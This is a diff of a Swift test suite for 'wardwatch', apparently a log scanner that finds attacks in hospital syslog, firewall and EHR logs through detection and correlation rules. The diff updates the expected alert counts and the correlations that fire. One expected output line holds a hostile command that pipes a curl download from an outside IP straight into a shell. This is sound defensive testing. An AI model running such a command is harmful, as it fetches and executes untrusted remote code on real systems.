@@ -16,14 +16,31 @@ import Glibc
         let run = try wardwatch(["scan", "--year", "2026", "SampleLogs"])
         #expect(run.status == 0)
         #expect(run.stdout == (try expected("scan-samplelogs.jsonl")))
-        #expect(run.stdout.split(separator: "\n").count == 27)
-        #expect(run.stderr.contains("  alerts: 27 (critical 1, high 8, medium 9, low 9)\n"))
-        #expect(run.stderr.contains("  events by dataset: unparsed 23, syslog.rfc3164 36, syslog.rfc5424 7, firewall.netfilter 1, firewall.fortigate 1, firewall.cisco_asa 3, firewall.filterlog 1, firewall.cef 1, hl7.v2 3, hl7.atna 3, fhir.auditevent 1\n"))
+        #expect(run.stdout.split(separator: "\n").count == 36)
+        #expect(run.stderr.contains("  alerts: 36 (critical 3, high 17, medium 12, low 1, informational 3)\n"))
+        #expect(run.stderr.contains("  events by dataset: unparsed 23, syslog.rfc3164 56, syslog.rfc5424 9, firewall.netfilter 1, firewall.fortigate 1, firewall.cisco_asa 15, firewall.filterlog 1, firewall.cef 1, hl7.v2 3, hl7.atna 3, fhir.auditevent 23\n"))
+        #expect(run.stderr.contains("  correlations: 11 loaded, 9 fired; 90 events of their rules; 2 without a group-by field (no group); peak 32 groups\n"))
+        var correlations: [String] = []
         for line in run.stdout.split(separator: "\n") {
             let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
-            #expect(object["rule.author"] as? String == "wardwatch")
-            #expect((object["rule.matched"] as? [String])?.isEmpty == false)
+            let author = object["rule.author"] as? String
+            // The bundled rules are wardwatch's, or SigmaHQ's rewritten (their authors stay, as the DRL asks).
+            #expect(author == "wardwatch" || author?.hasSuffix("(SigmaHQ), rewritten as a correlation by wardwatch") == true)
+            if object["correlation.type"] != nil {
+                correlations.append(object["rule.name"] as! String)
+                #expect((object["correlation.events"] as? [[String: Any]])?.isEmpty == false)
+            } else {
+                #expect((object["rule.matched"] as? [String])?.isEmpty == false)
+            }
         }
+        // Every hospital correlation of Rules/correlations fires on the sequences SampleLogs holds.
+        #expect(correlations == [
+            "Password spraying from one address", "Password guessing against SSH or the EHR from one address",
+            "Failed Logins with Different Accounts from Single Source - Linux", "SSH login from an address that was guessing passwords",
+            "Port scan of the imaging network", "Network Scans Count By Destination Port",
+            "Break-glass access followed by a bulk export by the same user", "One account signed in from two addresses within 5 minutes",
+            "One user opened the records of more than 20 patients in an hour",
+        ])
     }
 
     /// Several inputs are merged by event time: the rotated `auth.log.1.gz` of 21 Nov comes before
@@ -38,9 +55,11 @@ import Glibc
         #expect(stamps == stamps.sorted())
         let paths = merged.stdout.split(separator: "\n").map { line -> String in
             let object = try! JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
-            return object["log.file.path"] as! String
+            // A correlation alert names the files of its events in `correlation.events`.
+            return object["log.file.path"] as? String ?? "correlation"
         }
-        #expect(paths.prefix(3) == ["SampleLogs/linux/auth.log.1.gz", "SampleLogs/linux/auth.log.1.gz", "SampleLogs/linux/auth.log.1.gz"])
+        #expect(paths.prefix(4) == ["SampleLogs/linux/auth.log.1.gz", "SampleLogs/linux/auth.log", "SampleLogs/linux/auth.log",
+                                    "SampleLogs/firewall/perimeter.log"])
         #expect(merged.stdout == (try expected("scan-samplelogs.jsonl")))
         let four = try wardwatch(["scan", "--year", "2026", "--threads", "4", "SampleLogs"])
         #expect(four.stdout == merged.stdout)
@@ -69,7 +88,11 @@ import Glibc
         let single = try wardwatch(["scan", "--year", "2017", "--threads", "1", big.path])
         let four = try wardwatch(["scan", "--year", "2017", "--threads", "4", big.path])
         #expect(single.status == 0 && four.status == 0)
-        #expect(single.stdout.split(separator: "\n").count == 634 * 30)
+        // Per copy: 3 alerts of the bundled single-event rules and 1 accepted login; the correlations
+        // fire in the first copy and where a later copy's events are within --max-lateness of the
+        // copy before (the rest are late for their groups, counted and ignored).
+        #expect(single.stdout.split(separator: "\n").count == 152)
+        #expect(single.stderr.contains("33379 later than --max-lateness (ignored)"))
         #expect(four.stdout == single.stdout)
     }
 
@@ -92,7 +115,9 @@ import Glibc
         let missing = try wardwatch(["scan", "--fail-on-alert", "/no/such.log", "SampleLogs/linux/auth.log"])
         #expect(missing.status == 3)
         #expect(missing.stderr.hasPrefix("wardwatch: error: /no/such.log: no such file or directory.\n"))
-        #expect(missing.stdout.split(separator: "\n").count == 11)
+        // Failed and invalid-user SSH logins feed the password-guessing correlations and raise no
+        // alerts of their own (Sigma's `generate: false`): seven alerts, no correlation fired.
+        #expect(missing.stdout.split(separator: "\n").count == 7)
     }
 
     @Test func aGzipThatBreaksHalfwayKeepsTheAlertsBeforeTheBreak() throws {
@@ -105,7 +130,8 @@ import Glibc
         #expect(run.status == 3)
         #expect(run.stderr.hasPrefix("wardwatch: error: \(cut.path): byte \(compressed.count / 2) (decompressed byte "))
         let alerts = run.stdout.split(separator: "\n")
-        #expect(alerts.count > 100 && alerts.count < 634)
+        let total = try wardwatch(["scan", "--year", "2017", Paths.sample("loghub/OpenSSH/OpenSSH_2k.log").path]).stdout.split(separator: "\n").count
+        #expect(alerts.count >= 3 && alerts.count < total)
         let full = try wardwatch(["scan", "--year", "2017", Paths.sample("loghub/OpenSSH/OpenSSH_2k.log").path])
         let fullAlerts = full.stdout.split(separator: "\n").map { $0.replacingOccurrences(of: Paths.sample("loghub/OpenSSH/OpenSSH_2k.log").path, with: cut.path) }
         #expect(alerts.map(String.init) == Array(fullAlerts.prefix(alerts.count)))
@@ -132,7 +158,7 @@ import Glibc
             counts[level] = text.split(separator: "\n").count
             for line in text.split(separator: "\n") { #expect(line.contains("\"rule.level\":\"\(level)\"")) }
         }
-        #expect(counts == ["critical": 1, "high": 8, "medium": 9, "low": 9, "informational": 0])
+        #expect(counts == ["critical": 3, "high": 17, "medium": 12, "low": 1, "informational": 3])
     }
 
     @Test func timeWindowAndMinimumLevelFilter() throws {
@@ -143,14 +169,21 @@ import Glibc
             let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
             return object["rule.name"] as! String
         }
-        #expect(names == ["Root shell opened through sudo", "Download piped into a shell",
+        // The break-glass access at 06:52 is outside the window: its correlation with the 07:10 export
+        // does not fire; the export alone does.
+        #expect(names == ["Bulk export from the EHR reporting service", "Root shell opened through sudo", "Download piped into a shell",
                           "System or application logs truncated or deleted", "Failed password for the database superuser"])
         #expect(run.stderr.contains("only events inside --since/--until were matched"))
     }
 
     @Test func prettyLinesForPeople() throws {
         let run = try wardwatch(["scan", "--year", "2026", "--format", "pretty", "--min-level", "critical", "SampleLogs"])
-        #expect(run.stdout == "2026-11-22T07:36:52Z  CRITICAL      Download piped into a shell  ehr-app01  SampleLogs/linux/auth.log:18  jmiller : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash -c curl -fsSL http://45.133.1.20/upd.sh | sh\n")
+        #expect(run.stdout == """
+            2026-11-22T03:24:39Z  CRITICAL      SSH login from an address that was guessing passwords  temporal_ordered 2 in 30m  source=203.0.113.50  2 events from SampleLogs/linux/secure byte 869
+            2026-11-22T07:10:00Z  CRITICAL      Break-glass access followed by a bulk export by the same user  temporal_ordered 2 in 1h  user=jmiller  2 events from SampleLogs/ehr/ehr-app.log byte 0
+            2026-11-22T07:36:52Z  CRITICAL      Download piped into a shell  ehr-app01  SampleLogs/linux/auth.log:18  jmiller : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash -c curl -fsSL http://45.133.1.20/upd.sh | sh
+
+            """)
     }
 
     /// SIGINT: what was matched is written, the summary printed, and the exit code says so.
@@ -176,16 +209,16 @@ import Glibc
         var written = 0
         for _ in 0..<100 {
             written = ((try? String(contentsOf: file, encoding: .utf8)) ?? "").split(separator: "\n").count
-            if written == 11 { break }
+            if written == 7 { break }
             usleep(50_000)
         }
-        #expect(written == 11)
+        #expect(written == 7)
         kill(process.processIdentifier, SIGINT)
         process.waitUntilExit()
         #expect(process.terminationStatus == 130)
         let stderr = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
-        #expect(stderr.contains("  alerts: 11 "))
-        #expect(try String(contentsOf: file, encoding: .utf8).split(separator: "\n").count == 11)
+        #expect(stderr.contains("  alerts: 7 "))
+        #expect(try String(contentsOf: file, encoding: .utf8).split(separator: "\n").count == 7)
     }
 }
 
